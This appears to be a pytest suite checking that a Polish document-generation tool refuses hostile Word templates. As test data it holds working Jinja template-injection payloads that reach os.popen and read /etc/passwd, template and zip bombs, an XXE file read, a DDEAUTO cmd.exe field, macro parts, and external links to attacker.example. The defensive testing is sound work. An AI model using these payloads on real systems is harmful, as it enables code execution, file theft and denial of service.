"""Hostile Word templates: each is refused by the check, and none runs code, reads a file or exhausts
the machine even when rendering is forced past the check (render_context called directly)."""
from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path

import jinja2
import pytest
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE as RT

from docgen.context import Letterhead
from docgen.doctypes.work_plan import WORK_PLAN
from docgen.render import render
from docgen.templates import (MAX_ENTRIES, MAX_UNCOMPRESSED_BYTES, TemplateProblem, TemplateRejected,
                              check_template)
from docgen.templates.engine import make_environment, render_context, template_path
from docgen.templates.vocabulary import example_context

BASE = template_path(WORK_PLAN).read_bytes()
LETTERHEAD = Letterhead(name="MOPS w Lipowcu", address="ul. Mickiewicza 5", city="Lipowiec Mazurski")
PASSWD_MARKER = "root:x:0:0"
SECONDS = 10  # every refusal, forced render included, is quick


def with_paragraph(text: str, data: bytes = BASE) -> bytes:
    document = Document(io.BytesIO(data))
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def zip_edit(data: bytes, replace: dict[str, bytes] | None = None) -> bytes:
    """The package with parts replaced or added (same order, new ones last)."""
    replace = dict(replace or {})
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, replace.pop(info.filename, None) or zin.read(info.filename))
        for name, blob in replace.items():
            zout.writestr(name, blob)
    return out.getvalue()


def all_text(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())


@pytest.fixture(scope="module")
def context():
    return example_context(WORK_PLAN)


@pytest.fixture
def sentinel(tmp_path):
    path = tmp_path / "SENTINEL"
    yield path
    assert not path.exists(), "a template ran a command"


def forced(data: bytes, context) -> TemplateRejected:
    """Render past the check; it must refuse, quickly, with a Polish message."""
    start = time.perf_counter()
    with pytest.raises(TemplateRejected) as caught:
        output = render_context(data, context)
        assert PASSWD_MARKER not in all_text(output)  # pragma: no cover - reached only if not refused
    assert time.perf_counter() - start < SECONDS
    assert caught.value.problems and all(isinstance(p, TemplateProblem) for p in caught.value.problems)
    assert str(caught.value).startswith("Szablon odrzucony")
    return caught.value


def refused(data: bytes, *expected: str) -> list[str]:
    start = time.perf_counter()
    problems = [str(problem) for problem in check_template(data, WORK_PLAN)]
    assert time.perf_counter() - start < SECONDS
    assert problems, "the check let a hostile template through"
    for text in expected:
        assert any(text in problem for problem in problems), (text, problems)
    return problems


# --- Jinja payloads ---------------------------------------------------------------------------

def payloads(sentinel: Path) -> dict[str, tuple[str, str]]:
    """name -> (template text, a part of the check's message)"""
    return {
        "cycler_popen": ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "„cycler”"),
        "cycler_touch": (f"{{{{ cycler.__init__.__globals__.os.popen('touch {sentinel}').read() }}}}",
                         "ukrytych atrybutów"),
        "joiner_os": ("{{ joiner.__init__.__globals__.os.system('cat /etc/passwd') }}", "„joiner”"),
        "namespace": ("{{ namespace.__init__.__globals__['__builtins__']['open']('/etc/passwd').read() }}",
                      "„namespace”"),
        "attr_chain": ("{{ ''|attr('__class__')|attr('__mro__')|last|attr('__subclasses__')() }}", "„attr”"),
        "attr_popen": ("{{ (members|attr('__class__')|attr('__init__')|attr('__globals__')) }}", "„attr”"),
        "str_format": ("{{ '{0.__class__.__init__.__globals__}'.format(family_name) }}", "„format”"),
        "format_map": ("{{ '{x.__class__}'.format_map({'x': family_name}) }}", "„format_map”"),
        "format_filter": ('{{ "%s"|format(family_name.__class__) }}', "„format”"),
        "indirect_format": ("{% set f = ''.format %}{{ f('{0.__globals__}', family_name) }}", "„format”"),
        "attr_format": ("{{ (''|attr('format'))('{0.__class__}', family_name) }}", "„attr”"),
        "self": ("{{ self.__init__.__globals__ }}", "„self”"),
        "self_module": ("{{ self._TemplateReference__context.environment }}", "„self”"),
        "lipsum": ("{{ lipsum.__globals__['os'].popen('id').read() }}", "„lipsum”"),
        "range": ("{% for i in range(10**9) %}x{% endfor %}", "„range”"),
        "macro_recursion": ("{% macro r(n) %}{{ r(n) }}{% endmacro %}{{ r(1) }}", "Makra"),
        "recursive_loop": ("{% for m in members recursive %}{{ loop(members) }}{% endfor %}", "rekurencyjne"),
        "include": ("{% include '/etc/passwd' %}", "dołączać"),
        "import": ("{% import '/etc/passwd' as p %}", "importować"),
        "extends": ("{% extends '/etc/passwd' %}", "rozszerzać"),
        "autoescape_off": ("{% autoescape false %}{{ family_name }}{% endautoescape %}", "autoescape"),
        "nested_loop_bomb": ("{% set l = [1,2,3,4,5,6,7,8,9,10] %}{% for a in l %}{% for b in l %}"
                             "{% for c in l %}{% for d in l %}{% for e in l %}{% for f in l %}{{ a }}"
                             "{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}",
                             "Pętl"),
        "string_bomb": ("{{ 'x' * 1000000000 }}", "Mnożenie"),
        "list_bomb": ("{% set l = ['x'] * 100000000 %}{{ l|join }}", "Mnożenie"),
        "data_bomb": ("{{ family_name * 100000000 }}", "zbyt długi"),
        "power": ("{{ 999999 ** 999999 }}", "Potęgowanie"),
        "concat_doubling": ("{% set a = 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' %}"
                            + "".join(f"{{% set {n} = {p} ~ {p} ~ {p} ~ {p} ~ {p} ~ {p} ~ {p} ~ {p} %}}"
                                      for p, n in zip("abcdefg", "bcdefgh")) + "{{ h }}", "zbyt długi"),
        "replace_bomb": ("{{ strengths|replace('', strengths)|replace('', strengths) }}", "zbyt długi"),
        "batch_zero": ("{% for x in members|batch(0) %}{{ x }}{% endfor %}", "batch"),
        "percent_format": ("{{ '%999999999s' % family_name }}", "operatorem %"),
        "dunder_item": ("{{ members['__class__'] }}", "ukrytych atrybutów"),
        "dict_methods": ("{{ office.items() }}", "Wywoływanie metod"),
    }


PAYLOAD_NAMES = list(payloads(Path("/tmp/x")))


@pytest.mark.parametrize("name", PAYLOAD_NAMES)
def test_payload_is_refused_by_the_check_and_when_forced(name, sentinel, context):
    text, message = payloads(sentinel)[name]
    data = with_paragraph(text)
    refused(data, message)
    error = forced(data, context)
    assert "Traceback" not in str(error)
    assert PASSWD_MARKER not in str(error)


def test_a_refused_template_names_the_place(sentinel):
    data = with_paragraph("{{ cycler.__init__.__globals__.os.popen('id').read() }}")
    problem = next(p for p in check_template(data, WORK_PLAN) if "cycler" in p.message)
    assert problem.place.startswith("akapit ")
    assert "cycler.__init__" in problem.snippet


def test_payload_in_the_header_and_in_the_document_properties_is_refused_too(context):
    def header(document):
        document.sections[0].header.paragraphs[0].text = "{{ lipsum.__globals__['os'].popen('id').read() }}"

    document = Document(io.BytesIO(BASE))
    header(document)
    out = io.BytesIO()
    document.save(out)
    problems = check_template(out.getvalue(), WORK_PLAN)
    assert any(p.place == "nagłówek" and "lipsum" in p.message for p in problems)
    forced(out.getvalue(), context)

    document = Document(io.BytesIO(BASE))
    document.core_properties.title = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    out = io.BytesIO()
    document.save(out)
    problems = check_template(out.getvalue(), WORK_PLAN)
    assert any(p.place == "właściwości dokumentu (tytuł)" and "cycler" in p.message for p in problems)
    forced(out.getvalue(), context)


def test_payload_hidden_in_a_tracked_deletion_is_still_seen(context):
    """Jinja reads the raw XML: text Word shows as deleted (w:delText) is rendered all the same."""
    xml = zipfile.ZipFile(io.BytesIO(BASE)).read("word/document.xml").decode()
    hidden = ("<w:p><w:del w:id=\"1\" w:author=\"x\" w:date=\"2026-01-01T00:00:00Z\"><w:r><w:delText>"
              "{{ cycler.__init__.__globals__ }}</w:delText></w:r></w:del></w:p>")
    data = zip_edit(BASE, {"word/document.xml": xml.replace("<w:sectPr", hidden + "<w:sectPr", 1).encode()})
    refused(data, "„cycler”")
    forced(data, context)


def test_render_with_a_hostile_template_refuses_before_rendering(sentinel):
    data = with_paragraph(f"{{{{ cycler.__init__.__globals__.os.popen('touch {sentinel}').read() }}}}")
    with pytest.raises(TemplateRejected) as caught:
        render(WORK_PLAN, WORK_PLAN.example(), letterhead=LETTERHEAD, case_number="X/1", template=data)
    assert any("cycler" in p.message for p in caught.value.problems)


def test_the_environment_has_no_globals_and_no_dangerous_filters():
    env = make_environment()
    assert dict(env.globals) == {}
    assert not {"attr", "format", "map", "select", "reject", "selectattr", "rejectattr", "safe",
                "groupby", "center", "indent", "wordwrap", "xmlattr", "tojson"} & set(env.filters)
    for source in ("{{ self }}", "{{ range(3)|list }}", "{% macro m() %}{% endmacro %}"):
        with pytest.raises(TemplateRejected):
            env.from_string(source)
    with pytest.raises(jinja2.UndefinedError):
        env.from_string("{{ undefined_name.x }}").render()


def test_jinja_has_the_sandbox_fixes():
    """CVE-2024-56326 (3.1.5) and CVE-2025-27516 (3.1.6); pyproject pins Jinja2>=3.1.6."""
    version = tuple(int(part) for part in jinja2.__version__.split(".")[:3])
    assert version >= (3, 1, 6)
    pyproject = (Path(__file__).resolve().parents[1] / "pyproject.toml").read_text(encoding="utf-8")
    assert '"Jinja2>=3.1.6"' in pyproject


# --- archives ---------------------------------------------------------------------------------

def test_not_a_zip_named_docx(context):
    data = b"PK?? to nie jest dokument, tylko tekst udajacy .docx"
    refused(data, "to nie jest archiwum ZIP")
    forced(data, context)


def test_zip_without_word_parts(context):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("hello.txt", "x")
    refused(out.getvalue(), "brakuje części")
    forced(out.getvalue(), context)


def _zip_bomb(size: int) -> bytes:
    """A .docx whose document.xml unpacks to `size` bytes of zeros (written in chunks, never held)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(BASE)) as zin, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zout:
        for info in zin.infolist():
            if info.filename == "word/document.xml":
                bomb = zipfile.ZipInfo(info.filename)
                bomb.compress_type = zipfile.ZIP_DEFLATED
                with zout.open(bomb, "w", force_zip64=True) as stream:
                    chunk = b"\0" * 2 ** 20
                    for _ in range(size // len(chunk)):
                        stream.write(chunk)
            else:
                zout.writestr(info, zin.read(info.filename))
    return out.getvalue()


def test_zip_bomb_over_the_total_limit(context):
    data = _zip_bomb(MAX_UNCOMPRESSED_BYTES + 2 ** 20)
    assert len(data) < 2 ** 20
    refused(data, "Po rozpakowaniu")
    forced(data, context)


def test_zip_bomb_by_compression_ratio(context):
    data = _zip_bomb(8 * 2 ** 20)
    refused(data, "bombę ZIP")
    forced(data, context)


def test_too_many_entries(context):
    data = zip_edit(BASE, {f"word/media/x{i}.txt": b"x" for i in range(MAX_ENTRIES + 1)})
    refused(data, "zbyt wiele części")
    forced(data, context)


def test_a_file_over_the_size_limit_is_refused_unread():
    assert any("za duży" in p for p in refused(b"PK" + b"\0" * (10 * 2 ** 20 + 1)))


def test_external_image_and_hyperlink(context):
    document = Document(io.BytesIO(BASE))
    document.part.relate_to("http://attacker.example/track.png", RT.IMAGE, is_external=True)
    document.part.relate_to("http://attacker.example/", RT.HYPERLINK, is_external=True)
    out = io.BytesIO()
    document.save(out)
    problems = refused(out.getvalue(), "zewnętrznego adresu", "http://attacker.example/track.png")
    assert all(p.startswith("treść dokumentu") for p in problems)
    forced(out.getvalue(), context)


def test_attached_remote_template(context):
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>')
    data = zip_edit(BASE, {"word/_rels/settings.xml.rels": rels.encode()})
    refused(data, "zewnętrznego adresu")
    forced(data, context)


def test_macros_vba_project_and_docm_content_type(context):
    types = zipfile.ZipFile(io.BytesIO(BASE)).read("[Content_Types].xml").decode()
    docm = types.replace("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml")
    docm = docm.replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                                    "</Types>")
    data = zip_edit(BASE, {"[Content_Types].xml": docm.encode(), "word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})
    refused(data, "makra")
    forced(data, context)
    only_type = zip_edit(BASE, {"[Content_Types].xml": docm.encode()})
    refused(only_type, "makrami")
    forced(only_type, context)


def test_activex_and_ole_parts(context):
    for name in ("word/activeX/activeX1.bin", "word/embeddings/oleObject1.bin"):
        data = zip_edit(BASE, {name: b"\xd0\xcf\x11\xe0"})
        refused(data, "osadzone obiekty")
        forced(data, context)


def test_xml_entities_cannot_read_files(context):
    xml = zipfile.ZipFile(io.BytesIO(BASE)).read("word/document.xml").decode()
    evil = xml.replace("<w:document", '<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><w:document', 1)
    evil = evil.replace("{{ family_name }}", "&xxe;", 1)
    data = zip_edit(BASE, {"word/document.xml": evil.encode()})
    refused(data, "DTD")
    forced(data, context)


def test_dde_field(context):
    xml = zipfile.ZipFile(io.BytesIO(BASE)).read("word/document.xml").decode()
    field = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
             'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
             '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    data = zip_edit(BASE, {"word/document.xml": xml.replace("<w:sectPr", field + "<w:sectPr", 1).encode()})
    refused(data, "DDEAUTO")
